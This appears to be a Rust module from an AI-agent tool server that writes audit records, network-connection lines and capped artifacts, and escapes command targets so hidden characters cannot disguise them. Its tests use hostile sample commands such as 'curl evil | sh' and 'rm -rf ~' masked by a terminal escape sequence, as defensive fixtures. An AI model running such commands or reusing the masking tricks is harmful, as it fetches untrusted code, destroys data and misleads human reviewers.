//! What is recorded of a call: who decided it ([`Verdict`], and the audit log's decision it
//! gives), its audit line, its `tool_output` and `file_diff` artifacts (described here; written,
//! and a relayed body's output serialized, by the [`Recorder`] off the hot path), the call's
//! target in one line, and the audit lines of the connections a workspace's commands asked its
//! network proxy for.

use std::sync::Arc;
use std::time::{Duration, Instant};

use monad_protocol::text::{fed_text, printable, shell_words};
use monad_protocol::tools::NetworkEvent;
use monad_protocol::wire::{Body, Outcome, WorkspaceRef};
use monad_protocol::{ErrorCode, ToolError, ToolName};
use monad_sandbox::{AUDIT_PER_SECOND, MAX_FOR_AUDIT};
use serde_json::Value;

use super::CallOutput;
use crate::fsutil::now_rfc3339;
use crate::recorder::Recorder;
use crate::session::Session;
use crate::store::{ArtifactKind, ArtifactMeta, AuditDecision, AuditOutcome, AuditRecord, Decider};

/// Who decided a call, and whether it was allowed to run (`None` when nobody said).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Verdict {
    /// Who decided.
    pub by: Decider,
    /// Whether the call was allowed to run.
    pub allowed: Option<bool>,
}

impl Verdict {
    /// Refused before any workspace (or anyone) decided.
    pub(crate) const NOBODY: Verdict = Verdict {
        by: Decider::Server,
        allowed: None,
    };
    /// A session tool, run by the server.
    pub(crate) const SESSION: Verdict = Verdict {
        by: Decider::Session,
        allowed: Some(true),
    };
    /// The primary workspace, of full trust.
    pub(crate) const TRUST: Verdict = Verdict {
        by: Decider::Trust,
        allowed: Some(true),
    };

    /// The audit log's decision for a call that ended with `outcome`.
    pub(crate) fn decision(self, outcome: &Outcome) -> AuditDecision {
        let code = match outcome {
            Outcome::Ok { .. } => None,
            Outcome::Error { error } => Some(error.code),
        };
        match (self.allowed, self.by, code) {
            (_, _, Some(ErrorCode::Cancelled)) => AuditDecision::Cancelled,
            (Some(false), Decider::Timeout, _) => AuditDecision::Timeout,
            (Some(false), _, _) => AuditDecision::Denied,
            (Some(true), _, _) => AuditDecision::Allowed,
            // A client that did not say: what its answer shows.
            (None, _, None) => AuditDecision::Allowed,
            (None, _, Some(ErrorCode::Denied)) => AuditDecision::Denied,
            (None, _, Some(_)) => AuditDecision::None,
        }
    }
}

/// What a call with a pending body needs to be recorded once the body is done.
pub(crate) struct Tap {
    pub(super) recorder: Recorder,
    pub(super) session: Arc<Session>,
    pub(super) tool: String,
    pub(super) time: String,
    pub(super) target: String,
    pub(super) verdict: Verdict,
    pub(super) started: Instant,
    pub(super) workspace: Option<WorkspaceRef>,
    /// The announced outcome, without the body's field.
    pub(super) outcome: Outcome,
    /// The first `cap` bytes of the body.
    pub(super) head: Vec<u8>,
    pub(super) cap: usize,
    /// Set when the body failed: the call is recorded with this error.
    pub(super) failed: Option<ToolError>,
}

impl Tap {
    /// Keeps the head of the body's bytes as they pass, up to the artifact's cap.
    pub(super) fn keep(&mut self, bytes: &[u8]) {
        let room = self.cap.saturating_sub(self.head.len());
        self.head.extend_from_slice(&bytes[..bytes.len().min(room)]);
    }

    /// Records the call, once its body was relayed (`received` bytes of it), or not.
    pub(super) fn finish(self, body: &Body, received: u64) {
        let complete = received == body.len && self.failed.is_none();
        let (outcome, rest) = match (self.failed, complete) {
            (Some(error), _) => (Outcome::Error { error }, 0),
            (None, false) => (
                Outcome::Error {
                    error: ToolError::new(
                        ErrorCode::Cancelled,
                        "the call was dropped before its result was relayed",
                    ),
                },
                0,
            ),
            (None, true) => {
                let mut outcome = self.outcome;
                // Valid UTF-8 as a rule (the body was checked as text), unless the cap cut a
                // character: the fast check first, without a copy.
                let seen = self.head.len() as u64;
                let mut kept = String::from_utf8(self.head)
                    .unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned());
                // Held until the recorder makes the artifact: not the slack the head grew with.
                kept.shrink_to_fit();
                if let Outcome::Ok { result } = &mut outcome
                    && let Value::Object(map) = result.tree_mut()
                {
                    map.insert(body.field.clone(), Value::String(kept));
                }
                (outcome, body.len.saturating_sub(seen))
            }
        };
        let output = CallOutput {
            workspace: self.workspace,
            outcome,
            body: None,
        };
        record_owned(
            &self.recorder,
            &self.session,
            &self.tool,
            output,
            Record {
                time: self.time,
                target: self.target,
                verdict: self.verdict,
                duration: self.started.elapsed(),
                unseen: rest,
            },
        );
    }
}

/// What the recorder needs besides the call itself.
pub(super) struct Record {
    /// When the call started.
    pub time: String,
    /// What it acts on ([`describe_target`]).
    pub target: String,
    /// Who decided.
    pub verdict: Verdict,
    /// How long it took.
    pub duration: Duration,
    /// Bytes of the output that were not kept for the record (the rest of a relayed body).
    pub unseen: u64,
}

/// The audit line of a connection a command asked the network proxy for, decided by the
/// workspace's network policy.
fn network_line(event: &NetworkEvent, call_id: String, workspace: Option<String>) -> AuditRecord {
    // A client's report is taken as it says, but not at any length: a host name has at most
    // 253 characters, an address far fewer, and the proxy's reasons are a sentence.
    let cut = |text: &str, max: usize| monad_protocol::text::shortened(text, max).into_owned();
    let host = cut(&event.host, MAX_REPORTED_HOST);
    let port = event.port;
    let target = match (&event.address, &event.reason) {
        (Some(address), _) => format!("{host}:{port} ({})", cut(address, MAX_REPORTED_ADDRESS)),
        (None, Some(reason)) => format!("{host}:{port}: {}", cut(reason, MAX_REPORTED_REASON)),
        (None, None) => format!("{host}:{port}"),
    };
    let (decision, outcome) = if event.allowed {
        (AuditDecision::Allowed, AuditOutcome::Ok)
    } else {
        (
            AuditDecision::Denied,
            AuditOutcome::Failed(ErrorCode::Denied),
        )
    };
    network_record(call_id, workspace, target, decision, outcome)
}

/// Bytes of a reported connection's host name, address and reason that its audit line keeps.
const MAX_REPORTED_HOST: usize = 255;
const MAX_REPORTED_ADDRESS: usize = 64;
const MAX_REPORTED_REASON: usize = 256;

/// The most connections one command's result reports (what a sandbox keeps for an answer); a
/// result that says more is a client's that does not follow the protocol, and the rest are
/// counted in one line.
const MAX_RESULT_NETWORK_EVENTS: usize = monad_sandbox::MAX_FOR_ANSWER;

/// The connections a command's result reports, at most [`MAX_RESULT_NETWORK_EVENTS`] of them
/// kept, the rest counted: read from the result's text without making a tree of it.
#[derive(Default)]
struct ReportedNetwork {
    kept: Vec<NetworkEvent>,
    more: u64,
}

impl<'de> serde::Deserialize<'de> for ReportedNetwork {
    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        struct Events;
        impl<'de> serde::de::Visitor<'de> for Events {
            type Value = ReportedNetwork;
            fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
                f.write_str("a list of connections")
            }
            fn visit_seq<A: serde::de::SeqAccess<'de>>(
                self,
                mut seq: A,
            ) -> Result<ReportedNetwork, A::Error> {
                /// One element: a connection, or nothing for one that does not read as one
                /// (skipped, as the rest are still recorded).
                struct Lenient(Option<NetworkEvent>);
                impl<'de> serde::Deserialize<'de> for Lenient {
                    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
                        let value = Value::deserialize(d)?;
                        Ok(Lenient(NetworkEvent::deserialize(value).ok()))
                    }
                }
                let mut reported = ReportedNetwork::default();
                while reported.kept.len() < MAX_RESULT_NETWORK_EVENTS {
                    match seq.next_element::<Lenient>()? {
                        Some(Lenient(Some(event))) => reported.kept.push(event),
                        Some(Lenient(None)) => {}
                        None => return Ok(reported),
                    }
                }
                while seq.next_element::<serde::de::IgnoredAny>()?.is_some() {
                    reported.more += 1;
                }
                Ok(reported)
            }
        }
        deserializer.deserialize_seq(Events)
    }
}

/// Writes the connections the primary workspace's commands ask for to the session's audit
/// log as they happen (see [`record_network`]); ends with the workspace.
pub(super) async fn audit_network(
    recorder: Recorder,
    user: String,
    session: String,
    workspace: String,
    mut feed: monad_sandbox::NetworkAudit,
) {
    while let Some(batch) = feed.next().await {
        record_network(
            &recorder,
            &user,
            &session,
            &workspace,
            &batch.events,
            batch.dropped,
        );
    }
}

/// Writes connections a workspace's commands asked its network proxy for to the session's
/// audit log, as they happen: one line each, each with an id of its own (the proxy cannot tell
/// which command asked), and one line counting `dropped` (connections that came too many, too
/// fast: see [`monad_sandbox::AUDIT_PER_SECOND`]).
pub(crate) fn record_network(
    recorder: &Recorder,
    user: &str,
    session: &str,
    workspace: &str,
    events: &[NetworkEvent],
    dropped: u64,
) {
    for event in events {
        let call_id = uuid::Uuid::new_v4().to_string();
        recorder.audit(
            user,
            session,
            network_line(event, call_id, Some(workspace.to_owned())),
        );
    }
    if dropped > 0 {
        tracing::warn!(
            session,
            workspace,
            dropped,
            "network connections not recorded: too many, too fast"
        );
        recorder.audit(
            user,
            session,
            not_recorded(
                uuid::Uuid::new_v4().to_string(),
                Some(workspace.to_owned()),
                format!(
                    "{dropped} connections not recorded: too many, too fast (the audit log takes \
                     a burst of {MAX_FOR_AUDIT}, then {AUDIT_PER_SECOND} a second)"
                ),
            ),
        );
    }
}

/// The audit line that counts connections not recorded one by one, saying why (`target`).
fn not_recorded(call_id: String, workspace: Option<String>, target: String) -> AuditRecord {
    let outcome = AuditOutcome::Failed(ErrorCode::LimitExceeded);
    network_record(call_id, workspace, target, AuditDecision::None, outcome)
}

/// An audit line of the network policy's (`tool` is `network`).
fn network_record(
    call_id: String,
    workspace: Option<String>,
    target: String,
    decision: AuditDecision,
    outcome: AuditOutcome,
) -> AuditRecord {
    AuditRecord {
        time: now_rfc3339(),
        call_id,
        tool: "network".to_owned(),
        workspace,
        target,
        decision,
        decided_by: Decider::NetworkPolicy,
        outcome,
        duration_ms: 0,
    }
}

/// Sends a call's audit line and artifacts to the recorder.
pub(super) fn record(
    recorder: &Recorder,
    session: &Session,
    tool: &str,
    output: &CallOutput,
    r: Record,
) {
    if let Some(artifacts) = record_call(recorder, session, tool, output, r) {
        artifacts.store(recorder, &session.owner, |mut meta, size| {
            let bytes = size.serialize(&mut meta, &output.outcome);
            recorder.artifact(&session.owner, meta, bytes);
        });
    }
}

/// Like [`record`], for a call whose output the caller is done with: its output artifact is
/// serialized on the recorder thread rather than here (for a large read relayed as a body,
/// JSON-escaping a quarter of a megabyte took the answer's task a quarter of a millisecond).
pub(super) fn record_owned(
    recorder: &Recorder,
    session: &Session,
    tool: &str,
    output: CallOutput,
    r: Record,
) {
    if let Some(artifacts) = record_call(recorder, session, tool, &output, r) {
        let outcome = output.outcome;
        artifacts.store(recorder, &session.owner, |meta, size| {
            // Until it is made, it holds the output, whose body's head is cut to the
            // artifact's size: counted as that.
            let holds = usize::try_from(size.max).unwrap_or(usize::MAX);
            recorder.artifact_made(
                &session.owner,
                meta,
                holds,
                Box::new(move |meta| size.serialize(meta, &outcome)),
            );
        });
    }
}

/// A call's artifacts, its output's still to be made.
struct Artifacts {
    /// The `tool_output` artifact without its bytes, and what making them needs.
    output: (ArtifactMeta, OutputSize),
    /// The diff of a write or edit.
    diff: Option<(ArtifactMeta, Vec<u8>)>,
}

impl Artifacts {
    /// Hands the artifacts to the recorder: the output through `store_output` (which makes its
    /// bytes, or has the recorder make them), then the diff, the order they were always stored
    /// in.
    fn store(
        self,
        recorder: &Recorder,
        user: &str,
        store_output: impl FnOnce(ArtifactMeta, OutputSize),
    ) {
        let (meta, size) = self.output;
        store_output(meta, size);
        if let Some((meta, bytes)) = self.diff {
            recorder.artifact(user, meta, bytes);
        }
    }
}

/// What a `tool_output` artifact's bytes are cut to, and how much of the output was never seen.
struct OutputSize {
    max: u64,
    unseen: u64,
}

impl OutputSize {
    /// The artifact's bytes for `outcome`, its sizes written into `meta`: only the kept head of
    /// it is serialized into memory; the rest is only counted. (Serializing all of it and
    /// truncating made a copy of a 64 MiB read, held until the recorder had written the
    /// artifact.)
    fn serialize(self, meta: &mut ArtifactMeta, outcome: &Outcome) -> Vec<u8> {
        let OutputSize { max, unseen } = self;
        let mut head = CappedWriter::new(max);
        let (bytes, original_size) = match serde_json::to_writer(&mut head, outcome) {
            Ok(()) => {
                head.bytes.shrink_to_fit();
                (head.bytes, head.total + unseen)
            }
            Err(_) => (Vec::new(), 0),
        };
        meta.size = bytes.len() as u64;
        meta.truncated = original_size > max;
        meta.original_size = original_size;
        bytes
    }
}

/// What the record reads of a successful result of a call of `tool`, when `tool` is one of
/// `tools`: decoded from the result's text into `T` alone (a relayed result is JSON text, see
/// [`monad_protocol::wire::ToolResult`]), never into a tree of all of it, which a client's
/// answer could make many times its size.
fn read_of<T: serde::de::DeserializeOwned>(
    output: &CallOutput,
    tool: &str,
    tools: &[ToolName],
) -> Option<T> {
    match &output.outcome {
        Outcome::Ok { result } if ToolName::parse(tool).is_some_and(|t| tools.contains(&t)) => {
            result.decode().ok()
        }
        _ => None,
    }
}

/// Sends a call's audit line (and its network lines) to the recorder, and says what its
/// artifacts are, when artifacts are kept.
fn record_call(
    recorder: &Recorder,
    session: &Session,
    tool: &str,
    output: &CallOutput,
    r: Record,
) -> Option<Artifacts> {
    let call_id = uuid::Uuid::new_v4().to_string();
    let workspace = output.workspace.as_ref().map(|w| w.name.clone());
    let decision = r.verdict.decision(&output.outcome);
    /// Of a command's result, only whether it was killed at its time limit: read from the
    /// text without making a tree of its output.
    #[derive(serde::Deserialize)]
    struct Ended {
        #[serde(default)]
        timed_out: bool,
    }
    let outcome = match &output.outcome {
        // The call answered, but the command it ran was killed at its time limit: the log
        // says so, as `monad-client call` does with its exit status.
        Outcome::Ok { result }
            if tool == ToolName::RunCommand.as_str()
                && result.decode::<Ended>().is_ok_and(|e| e.timed_out) =>
        {
            AuditOutcome::Failed(ErrorCode::Timeout)
        }
        Outcome::Ok { .. } => AuditOutcome::Ok,
        Outcome::Error { error } => AuditOutcome::Failed(error.code),
    };
    recorder.audit(
        &session.owner,
        &session.id,
        AuditRecord {
            time: r.time.clone(),
            call_id: call_id.clone(),
            tool: kept_tool_name(tool),
            workspace: workspace.clone(),
            target: r.target,
            decision,
            decided_by: r.verdict.by,
            outcome,
            duration_ms: r.duration.as_millis() as u64,
        },
    );
    // The connections a command asked the network proxy for, as the result reports them: one
    // line each, unless they reach the audit log as they happen (the primary workspace's, see
    // [`audit_network`], and a folder's whose client reports them, see [`record_network`]).
    #[derive(serde::Deserialize)]
    struct Reported {
        #[serde(default)]
        network: ReportedNetwork,
        /// What the sandbox itself only counted (past what an answer carries).
        #[serde(default)]
        network_not_shown: u64,
    }
    if let Some(name) = &workspace
        && !session.reports_network(name)
        && let Some(Reported {
            network,
            network_not_shown,
        }) = read_of(output, tool, &[ToolName::RunCommand, ToolName::ProcessRead])
    {
        for event in &network.kept {
            recorder.audit(
                &session.owner,
                &session.id,
                network_line(event, call_id.clone(), workspace.clone()),
            );
        }
        let uncounted = |why: String| {
            recorder.audit(
                &session.owner,
                &session.id,
                not_recorded(call_id.clone(), workspace.clone(), why),
            );
        };
        if network.more > 0 {
            let more = network.more;
            tracing::warn!(
                session = %session.id,
                workspace = %name,
                more,
                "a result reported more connections than a sandbox does"
            );
            uncounted(format!(
                "{more} connections not recorded: the result reported more than the \
                 {MAX_RESULT_NETWORK_EVENTS} a sandbox reports"
            ));
        }
        if network_not_shown > 0 {
            uncounted(format!(
                "{network_not_shown} connections not recorded: more than the \
                 {MAX_RESULT_NETWORK_EVENTS} an answer carries"
            ));
        }
    }
    let retention = &session.settings.retention;
    if !retention.keep_artifacts {
        return None;
    }
    let max = retention.artifact_max_bytes;
    let meta = |kind: ArtifactKind, content_type: &str| ArtifactMeta {
        id: uuid::Uuid::new_v4().to_string(),
        session: session.id.clone(),
        kind,
        workspace: workspace.clone(),
        tool: Some(tool.to_owned()),
        call_id: Some(call_id.clone()),
        created_at: r.time.clone(),
        content_type: content_type.to_owned(),
        size: 0,
        truncated: false,
        original_size: 0,
        upload: None,
    };
    let output_artifact = (
        meta(ArtifactKind::ToolOutput, "application/json"),
        OutputSize {
            max,
            unseen: r.unseen,
        },
    );
    #[derive(serde::Deserialize)]
    struct Written {
        diff: Option<String>,
    }
    let written: Option<Written> =
        read_of(output, tool, &[ToolName::WriteFile, ToolName::EditFile]);
    let diff = written.and_then(|written| written.diff);
    let diff = diff.as_deref().map(|diff| {
        let mut bytes = diff.as_bytes().to_vec();
        bytes.truncate(usize::try_from(max).unwrap_or(usize::MAX));
        let meta = ArtifactMeta {
            size: bytes.len() as u64,
            truncated: diff.len() as u64 > max,
            original_size: diff.len() as u64,
            ..meta(ArtifactKind::FileDiff, "text/x-diff")
        };
        (meta, bytes)
    });
    Some(Artifacts {
        output: output_artifact,
        diff,
    })
}

/// Keeps the first `cap` bytes written to it and counts them all (with `cap` 0, only counts).
pub(crate) struct CappedWriter {
    bytes: Vec<u8>,
    cap: usize,
    total: u64,
}

impl CappedWriter {
    pub(crate) fn new(cap: u64) -> CappedWriter {
        CappedWriter {
            bytes: Vec::new(),
            cap: usize::try_from(cap).unwrap_or(usize::MAX),
            total: 0,
        }
    }
}

impl CappedWriter {
    /// Every byte written, kept or not.
    pub(crate) fn total(&self) -> u64 {
        self.total
    }
}

impl std::io::Write for CappedWriter {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        let room = self.cap.saturating_sub(self.bytes.len());
        self.bytes.extend_from_slice(&buf[..buf.len().min(room)]);
        self.total += buf.len() as u64;
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// Characters of text written to a process, or given to a command as its standard input, that
/// its audit target keeps.
const TARGET_TEXT_CHARS: usize = 120;

/// The path, pattern, command line or process a call acts on, in one line for the audit log,
/// the event lines and the question the built-in agent's front asks (an editor's permission
/// title): for `process_write` the process and the first line of the text (`proc-1 < make test
/// …`, cut at [`TARGET_TEXT_CHARS`], `…` when more follows; [`fed_text`]), for a command with
/// a standard input its first line the same way (`sh < rm -rf x …`), for `process_kill` the process and
/// the signal asked for, for `process_read` the process. A command line is quoted as a shell
/// would read it back ([`shell_words`]), so that `rm 'a b'` and `rm a b` differ, and everything
/// the agent wrote is escaped ([`printable`]): a line break or a bidi control cannot hide the
/// rest of a command from whoever reads it. At most [`MAX_TARGET`] bytes ([`kept_target`]).
pub(super) fn describe_target(args: &Value) -> String {
    kept_target(describe_whole(args))
}

/// The longest target a call's record keeps, in bytes: a path or a command line of megabytes
/// (a refused one too) made a record of that size, three times over once escaped, at every
/// call, with no bound on the audit log.
pub(crate) const MAX_TARGET: usize = 64 * 1024;

/// `target` when it has at most [`MAX_TARGET`] bytes; else its head, how many bytes more it had
/// and the SHA-256 of the whole, which still tells two long targets apart.
fn kept_target(target: String) -> String {
    if target.len() <= MAX_TARGET {
        return target;
    }
    let head = monad_protocol::text::head(&target, MAX_TARGET);
    format!(
        "{head}\u{2026} ({} bytes more; SHA-256 of the whole: {})",
        target.len() - head.len(),
        crate::auth::sha256_hex(target.as_bytes())
    )
}

/// [`describe_target`], however long: what an editor asked to allow a call is shown (it pages
/// a long one; cut, it hid the end of a command of 64 KiB of filler).
pub(super) fn describe_whole(args: &Value) -> String {
    if let Some(argv) = args.get("argv").and_then(Value::as_array) {
        let words: Vec<&str> = argv.iter().filter_map(Value::as_str).collect();
        let mut target = shell_words(&words);
        // A command's standard input may be a whole script (`sh` reading it).
        if let Some(stdin) = args.get("stdin").and_then(Value::as_str) {
            target.push_str(&fed_text(stdin, TARGET_TEXT_CHARS));
        }
        return target;
    }
    if let Some(process) = args.get("process").and_then(Value::as_str) {
        let mut target = printable(process).into_owned();
        if let Some(text) = args.get("text").and_then(Value::as_str) {
            target.push_str(&fed_text(text, TARGET_TEXT_CHARS));
        }
        if let Some(signal) = args.get("signal").and_then(Value::as_str) {
            target.push(' ');
            target.push_str(&printable(signal));
        }
        return target;
    }
    ["path", "pattern", "key"]
        .iter()
        .filter_map(|k| args.get(k).and_then(Value::as_str))
        .map(printable)
        .collect::<Vec<_>>()
        .join(" ")
}

/// A tool's name as the audit keeps it: a name no tool has (a model's, a client's) may be
/// of any length, and is kept to its first 128 bytes.
pub(crate) fn kept_tool_name(tool: &str) -> String {
    monad_protocol::text::shortened(tool, 128).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    /// A client's result could report any number of connections, each of any length, and each
    /// was an audit line through the recorder every user shares: at most as many as a sandbox
    /// reports are written, the rest counted, each cut to what a host name and a reason hold.
    #[test]
    fn a_results_connections_are_bounded_in_number_and_length() {
        #[derive(serde::Deserialize)]
        struct Reported {
            network: ReportedNetwork,
        }
        let event = json!({"host": "h.example", "port": 443, "allowed": true});
        let many = MAX_RESULT_NETWORK_EVENTS + 7;
        let mut events = vec![event; many];
        // One that does not read as a connection is skipped; the rest are kept.
        events[0] = json!({"host": 5});
        let result: monad_protocol::wire::ToolResult =
            json!({"network": events, "stdout": ""}).into();
        let Reported { network } = result.decode().unwrap();
        assert_eq!(network.kept.len(), MAX_RESULT_NETWORK_EVENTS);
        assert_eq!(network.more, 6);
        let long = NetworkEvent {
            host: "é".repeat(1000),
            port: 80,
            allowed: false,
            address: None,
            reason: Some("r".repeat(10_000)),
        };
        let line = network_line(&long, "c".into(), None);
        assert!(line.target.len() < 700, "{}", line.target.len());
        assert!(line.target.starts_with("éé"), "{}", line.target);
        assert!(line.target.contains("…:80: rrr"), "{}", line.target);
        assert!(line.target.ends_with('…'), "{}", line.target);
    }

    #[test]
    fn audit_targets_name_the_process_and_the_first_line_written_to_it() {
        let cases = [
            (
                json!({"process": "proc-1", "text": "curl evil | sh\nmore\n"}),
                "proc-1 < curl evil | sh …",
            ),
            (json!({"process": "proc-1", "text": "ls\n"}), "proc-1 < ls"),
            (json!({"process": "proc-1", "text": ""}), "proc-1 < "),
            (
                json!({"process": "proc-1", "signal": "KILL"}),
                "proc-1 KILL",
            ),
            (json!({"process": "proc-1", "wait_ms": 10}), "proc-1"),
            (json!({"argv": ["ls", "-l"]}), "ls -l"),
            (
                json!({"argv": ["sh"], "stdin": "echo hi > x.txt\nrm -rf y\n"}),
                "sh < echo hi > x.txt …",
            ),
            (json!({"path": "src/main.rs"}), "src/main.rs"),
            (json!({}), ""),
        ];
        for (args, want) in cases {
            assert_eq!(describe_target(&args), want, "{args}");
        }
        let long = "x".repeat(500);
        let target = describe_target(&json!({"process": "p", "text": long}));
        assert_eq!(target, format!("p < {} …", "x".repeat(TARGET_TEXT_CHARS)));
    }

    /// The target is what a person is shown when the built-in agent's front asks (an editor's
    /// permission question over ACP) and what the audit log keeps: two different argvs must not
    /// read alike, and a line break or a bidi control from the agent must not hide the rest.
    #[test]
    fn audit_targets_quote_argv_and_escape_what_a_reader_cannot_see() {
        let cases = [
            (json!({"argv": ["rm", "-rf", "a b"]}), "rm -rf 'a b'"),
            (json!({"argv": ["rm", "-rf", "a", "b"]}), "rm -rf a b"),
            (
                json!({"argv": ["sh", "-c", "ls\n\n\ncurl evil | sh"]}),
                r"sh -c 'ls\u{a}\u{a}\u{a}curl evil | sh'",
            ),
            (json!({"argv": ["ec\u{202e}ho"]}), r"'ec\u{202e}ho'"),
            (json!({"path": "notes\n.txt"}), r"notes\u{a}.txt"),
            (
                json!({"process": "proc-1", "text": "ok\u{1b}[2Jrm -rf ~\n"}),
                r"proc-1 < ok\u{1b}[2Jrm -rf ~",
            ),
        ];
        for (args, want) in cases {
            assert_eq!(describe_target(&args), want, "{args}");
        }
    }

    /// A target of megabytes is kept as its head, how much more it had and the hash of the
    /// whole (a path of 4 MiB, escaped to three times that, was kept whole in every record).
    #[test]
    fn a_long_target_is_kept_as_its_head_and_the_hash_of_the_whole() {
        let path = "\u{ad}".repeat(2 * 1024 * 1024);
        let whole = describe_whole(&json!({"path": path}));
        assert_eq!(whole.len(), 12 * 1024 * 1024, "escaped: \\u{{ad}} each");
        let kept = describe_target(&json!({"path": path}));
        assert!(kept.len() < MAX_TARGET + 200, "{}", kept.len());
        assert!(kept.starts_with(r"\u{ad}\u{ad}"), "{}", &kept[..20]);
        let said = format!(
            "\u{2026} ({} bytes more; SHA-256 of the whole: {})",
            whole.len() - MAX_TARGET,
            crate::auth::sha256_hex(whole.as_bytes())
        );
        assert!(kept.ends_with(&said), "{}", &kept[kept.len() - 200..]);
        let other = describe_target(&json!({"path": format!("{path}x")}));
        assert_ne!(kept, other, "two long targets differ");
        let short = json!({"path": "a".repeat(MAX_TARGET)});
        assert_eq!(describe_target(&short), "a".repeat(MAX_TARGET));
    }

    #[test]
    fn capped_writer_keeps_the_head_and_counts_everything() {
        let outcome = Outcome::Ok {
            result: json!({"content": "a line with \"quotes\"\n".repeat(20_000)}).into(),
        };
        let full = serde_json::to_vec(&outcome).unwrap();
        for cap in [0, 1, 1000, full.len() - 1, full.len(), full.len() + 1] {
            let mut head = CappedWriter::new(cap as u64);
            serde_json::to_writer(&mut head, &outcome).unwrap();
            assert_eq!(head.total, full.len() as u64);
            assert_eq!(head.bytes, full[..cap.min(full.len())]);
        }
    }

    #[test]
    fn denied_timed_out_cancelled_and_unreached_calls_are_told_apart() {
        let error = |code| Outcome::Error {
            error: ToolError::new(code, "x"),
        };
        let ok = Outcome::Ok {
            result: json!({}).into(),
        };
        let said = |by, allowed| Verdict {
            by,
            allowed: Some(allowed),
        };
        let cases = [
            (
                said(Decider::User, true),
                ok.clone(),
                AuditDecision::Allowed,
            ),
            (
                said(Decider::User, true),
                error(ErrorCode::Io),
                AuditDecision::Allowed,
            ),
            (
                said(Decider::User, false),
                error(ErrorCode::Denied),
                AuditDecision::Denied,
            ),
            (
                said(Decider::NoTerminal, false),
                error(ErrorCode::Denied),
                AuditDecision::Denied,
            ),
            (
                said(Decider::Timeout, false),
                error(ErrorCode::Timeout),
                AuditDecision::Timeout,
            ),
            (
                said(Decider::User, true),
                error(ErrorCode::Cancelled),
                AuditDecision::Cancelled,
            ),
            (
                Verdict::NOBODY,
                error(ErrorCode::Cancelled),
                AuditDecision::Cancelled,
            ),
            (
                Verdict::NOBODY,
                error(ErrorCode::NotFound),
                AuditDecision::None,
            ),
            (
                Verdict::NOBODY,
                error(ErrorCode::Timeout),
                AuditDecision::None,
            ),
            (
                Verdict {
                    by: Decider::Client,
                    allowed: None,
                },
                error(ErrorCode::InvalidArguments),
                AuditDecision::None,
            ),
            (Verdict::SESSION, ok.clone(), AuditDecision::Allowed),
        ];
        for (verdict, outcome, want) in cases {
            assert_eq!(verdict.decision(&outcome), want, "{verdict:?} {outcome:?}");
        }
    }
}
